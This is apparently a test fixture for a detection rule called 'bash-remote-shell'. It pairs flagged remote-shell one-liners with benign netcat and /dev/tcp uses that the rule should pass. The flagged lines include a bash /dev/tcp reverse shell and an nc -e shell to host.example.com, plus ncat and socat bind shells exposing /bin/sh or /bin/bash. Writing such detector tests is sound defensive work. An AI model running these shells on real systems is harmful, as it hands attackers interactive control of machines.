#!/bin/bash
# ruleid: bash-remote-shell
bash -i >& /dev/tcp/host.example.com/4444 0>&1
# ruleid: bash-remote-shell
nc -e /bin/sh host.example.com 4444
# ruleid: bash-remote-shell
ncat -lvp 4444 -e /bin/bash
# ruleid: bash-remote-shell
socat tcp-listen:4444 exec:/bin/sh

# ok: bash-remote-shell
nc -z host.example.com 80
# ok: bash-remote-shell
echo "PING" | nc localhost 6379
# ok: bash-remote-shell
exec 3<>/dev/tcp/localhost/8080
# ok: bash-remote-shell
bash -i
# ok: bash-remote-shell
bash -c "make_metrics | netcat -w 2 graphite.example.com 2003"
# ok: bash-remote-shell
sh ./report.sh today | nc stats.example.com 8125
